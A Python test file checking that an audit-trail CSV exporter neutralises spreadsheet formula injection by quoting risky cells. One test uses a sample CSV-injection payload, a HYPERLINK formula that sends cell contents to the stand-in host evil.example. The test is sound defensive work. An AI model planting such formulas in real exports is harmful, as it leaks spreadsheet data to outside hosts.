"""CSV cells of the audit trail: recorded free text that a spreadsheet would evaluate as a
formula (CSV injection) is written with a leading quote; numbers and other text as they are."""

from __future__ import annotations

import csv
import io
import re

from hypothesis import given
from hypothesis import strategies as st

from projections.audit.export import FORMULA_STARTS, guarded, write_csv
from projections.audit.trail import COLUMNS


def test_a_reason_written_as_a_formula_is_quoted_in_the_csv() -> None:
    reason = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    row = dict.fromkeys(COLUMNS, None) | {"position": 7, "why": reason, "new_value": "-6.25"}
    out = io.StringIO()
    write_csv(iter([row]), out)
    _, written = list(csv.reader(io.StringIO(out.getvalue())))
    cells = dict(zip(COLUMNS, written, strict=True))
    assert cells["why"] == "'" + reason
    assert cells["new_value"] == "-6.25"  # a number stays a number
    assert cells["position"] == "7"


@given(st.text())
def test_no_cell_starts_a_formula_and_the_value_is_recoverable(text: str) -> None:
    cell = guarded(text)
    assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"[+-][0-9.eE+-]+", cell)
    assert cell in (text, "'" + text)
